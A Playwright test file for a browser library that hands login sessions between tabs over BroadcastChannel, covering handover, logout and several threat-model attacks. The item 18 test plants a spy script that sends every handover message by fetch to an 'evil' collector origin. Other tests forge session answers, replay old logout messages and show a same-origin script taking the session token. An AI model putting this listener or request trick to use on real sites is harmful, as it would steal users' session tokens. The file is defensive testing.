// TabSession with SessionKeystore in real Chromium, one browser context, several tabs: handover to a
// new tab (strings and a non-extractable CryptoKey), logout everywhere, and THREATS.md items 16-19
// as attacks run by page script in a tab of the same origin, exfiltrating to a second origin.
import { randomBytes } from 'node:crypto';
import { type BrowserContext, expect, type Page, test } from '@playwright/test';
import { serveSecret, startCollector, startServer, type TestServer } from '../support/server.js';

let app: TestServer;
let evil: TestServer;
let secret = '';
const loot: string[] = [];

test.beforeAll(async () => {
  app = await startServer(serveSecret(() => secret));
  evil = await startCollector(loot);
});
test.afterAll(async () => {
  await app.close();
  await evil.close();
});
test.beforeEach(() => {
  secret = `sk_${randomBytes(16).toString('hex')}`;
  loot.length = 0;
});

const appUrl = (params = '') => `${app.origin}/pages/tabs/app.html?${params}`;
const CHANNEL = 'sealed-session/tabs:app';

async function tab(context: BrowserContext, params = ''): Promise<Page> {
  const p = await context.newPage();
  await p.goto(appUrl(params));
  await p.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
  return p;
}
const data = (page: Page, key: string) => page.evaluate((k) => document.body.dataset[k] ?? '', key);
const until = async (page: Page, key: string, value: string) =>
  expect.poll(() => data(page, key), { timeout: 5000 }).toBe(value);

/** Everything a script in that tab can read from storage. */
const storageDump = (page: Page) =>
  page.evaluate(() => JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage } }));

test('a new tab gets the session (string and non-extractable CryptoKey) in memory, via BroadcastChannel only (item 16)', async ({
  context,
}) => {
  // Any write to localStorage, from any page of the origin, is recorded.
  await context.addInitScript(() => {
    const set = Storage.prototype.setItem;
    Storage.prototype.setItem = function (k: string, v: string) {
      if (this === window.localStorage) (window as unknown as { __local: string[] }).__local = [k, v];
      return set.call(this, k, v);
    };
  });
  const a = await tab(context, 'login=1');
  expect(await data(a, 'has')).toBe('true');
  const b = await tab(context, 'expose=1');
  expect(await data(b, 'events')).toContain('request:true');
  expect(
    await b.evaluate(() => (window as unknown as { app: { get(k: string): unknown } }).app.get('token')),
  ).toBe(secret);
  // The very same AES key: same probe ciphertext; and it is still non-extractable.
  await until(b, 'probe', await data(a, 'probe'));
  expect(await data(b, 'probe')).not.toBe('');
  expect(
    await b.evaluate(async () => {
      const k = (window as unknown as { app: { get(k: string): CryptoKey } }).app.get('aes');
      return k.extractable;
    }),
  ).toBe(false);
  expect(await data(b, 'epoch')).toBe(await data(a, 'epoch'));
  for (const p of [a, b]) {
    expect(
      await p.evaluate(() => [localStorage.length, (window as unknown as { __local?: unknown }).__local]),
    ).toEqual([0, undefined]);
  }
  // The new tab holds it in memory: nothing about it in its storage.
  expect(await storageDump(b)).not.toContain(secret);
});

test('a tab opened with no other tab holding a session gets none', async ({ context }) => {
  const b = await tab(context, 'timeout=200');
  expect(await data(b, 'events')).toContain('request:false');
  expect(await data(b, 'has')).toBe('false');
});

test('the handed-over session survives a reload of the new tab (keystore)', async ({ context }) => {
  await tab(context, 'login=1');
  const b = await tab(context, 'expose=1');
  await b.reload();
  await b.locator('body[data-ready="1"]').waitFor({ state: 'attached' });
  expect(await data(b, 'events')).not.toContain('request'); // restored, did not need to ask
  expect(
    await b.evaluate(() => (window as unknown as { app: { get(k: string): unknown } }).app.get('token')),
  ).toBe(secret);
});

test('item 17: a forged unsolicited push, or an answer to another id, is ignored', async ({ context }) => {
  const b = await tab(context, 'timeout=200'); // no session anywhere: B asked and got nothing
  await b.evaluate((ch) => {
    const c = new BroadcastChannel(ch);
    const forged = {
      p: 'sealed-session/tabs',
      v: 1,
      t: 'ans',
      epoch: Date.now() + 1,
      values: { token: ['attacker', null] },
    };
    c.postMessage({ ...forged, id: '0'.repeat(32) });
    c.postMessage({ ...forged, id: 'f'.repeat(32) });
  }, CHANNEL);
  await until(b, 'events', 'request:false,ignored:unsolicited,ignored:unsolicited');
  expect(await data(b, 'has')).toBe('false');
});

test('item 17: a forged push never replaces a session; a new tab gets the newest one (one answer per request: test/tabs)', async ({
  context,
}) => {
  const a = await tab(context, 'login=1');
  const c = await tab(context, 'login=1'); // a newer login: A's session is superseded
  await until(a, 'events', 'end:superseded');
  const epochC = await data(c, 'epoch');
  const probeC = await data(c, 'probe');
  // An injected script in a third tab answers C's (non-existent) request and pushes a session.
  const x = await context.newPage();
  await x.goto(`${app.origin}/pages/tabs/blank.html`);
  await x.evaluate((ch) => {
    const bc = new BroadcastChannel(ch);
    bc.postMessage({
      p: 'sealed-session/tabs',
      v: 1,
      t: 'ans',
      id: 'a'.repeat(32),
      epoch: Date.now() + 1e9,
      values: { token: ['attacker', null] },
    });
  }, CHANNEL);
  await until(c, 'events', 'ignored:unsolicited');
  expect(await data(c, 'epoch')).toBe(epochC);
  expect(await data(c, 'probe')).toBe(probeC);
  // A new tab, with two tabs able to answer (A was superseded, so only C answers), gets C's session.
  const b = await tab(context);
  expect(await data(b, 'events')).toContain('request:true');
  expect(await data(b, 'epoch')).toBe(epochC);
  await until(b, 'probe', probeC);
});

test('item 18: only the named fields travel, never other keys or the sessionStorage', async ({ context }) => {
  const a = await tab(context, 'login=1');
  // An injected script in another tab of the origin listens to every handover message.
  const spy = await context.newPage();
  await spy.goto(`${app.origin}/pages/tabs/blank.html`);
  await spy.evaluate(
    ([ch, collect]) => {
      const bc = new BroadcastChannel(ch!);
      bc.onmessage = (e) => {
        const d = e.data;
        // CryptoKeys cannot be serialized: record their presence only.
        const text = JSON.stringify(d, (_k, v) => (v instanceof CryptoKey ? '[CryptoKey]' : v));
        fetch(collect!, { method: 'POST', mode: 'no-cors', body: text });
      };
    },
    [CHANNEL, `${evil.origin}/collect`],
  );
  const b = await tab(context);
  expect(await data(b, 'events')).toContain('request:true');
  await expect.poll(() => loot.length).toBeGreaterThanOrEqual(2); // the request and the answer
  const all = loot.join('\n');
  expect(all).not.toContain(`internal-${secret}`);
  expect(all).not.toContain(`ss-${secret}`);
  const answer = JSON.parse(loot.find((l) => l.includes('"t":"ans"'))!);
  expect(Object.keys(answer.values).sort()).toEqual(['aes', 'token']);
  expect(await storageDump(b)).not.toContain(secret);
  expect(await storageDump(a)).toContain(`ss-${secret}`); // A's own data stays in A
});

test('item 19: logout reaches every tab; older epochs never overwrite newer ones', async ({ context }) => {
  const a = await tab(context, 'login=1');
  const b = await tab(context);
  const c = await tab(context);
  for (const p of [b, c]) expect(await data(p, 'has')).toBe('true');
  await c.click('#logout');
  for (const p of [a, b]) await until(p, 'has', 'false');
  expect(await data(c, 'has')).toBe('false');
  expect(await data(a, 'events')).toContain('end:logout');
  expect(await data(b, 'events')).toContain('end:logout');
  // A logs in again: a replayed logout or login carrying the old epoch changes nothing.
  const oldEpoch = Number(await data(a, 'epoch'));
  expect(oldEpoch).toBe(0);
  await a.click('#login');
  await until(a, 'has', 'true');
  const newEpoch = Number(await data(a, 'epoch'));
  const malformed = async () =>
    (await data(a, 'events')).split(',').filter((x) => x === 'ignored:malformed').length;
  const before = await malformed();
  await b.evaluate(
    ([ch, e]) => {
      const bc = new BroadcastChannel(ch as string);
      bc.postMessage({ p: 'sealed-session/tabs', v: 1, t: 'out', epoch: (e as number) - 1 });
      bc.postMessage({ p: 'sealed-session/tabs', v: 1, t: 'in', epoch: (e as number) - 1 });
      // Sentinel: messages from one sender arrive in order, so once A reports this one as
      // malformed, it has handled the two replays before it.
      bc.postMessage({ p: 'sealed-session/tabs', v: 1, t: 'sentinel' });
    },
    [CHANNEL, newEpoch],
  );
  await expect.poll(malformed, { timeout: 5000 }).toBe(before + 1);
  expect(await data(a, 'has')).toBe('true');
  expect(Number(await data(a, 'epoch'))).toBe(newEpoch);
  // A new tab still gets the new session, and the logged-out tabs did not get it back by themselves.
  const d = await tab(context);
  expect(await data(d, 'epoch')).toBe(String(newEpoch));
  expect(await data(b, 'has')).toBe('false');
});

test('documented limit: a same-origin script can ask for the session like a new tab does', async ({
  context,
}) => {
  await tab(context, 'login=1');
  const x = await context.newPage();
  await x.goto(`${app.origin}/pages/tabs/blank.html`);
  const got = await x.evaluate(async (ch) => {
    const bc = new BroadcastChannel(ch);
    const id = '1'.repeat(32);
    const answer = new Promise<unknown>((r) => {
      bc.onmessage = (e) => {
        if (e.data.t === 'ans' && e.data.id === id) r(e.data.values.token[0]);
      };
    });
    bc.postMessage({ p: 'sealed-session/tabs', v: 1, t: 'req', id });
    return answer;
  }, CHANNEL);
  // This is why docs/tabs.md says: BroadcastChannel is no boundary against same-origin script.
  expect(got).toBe(secret);
});
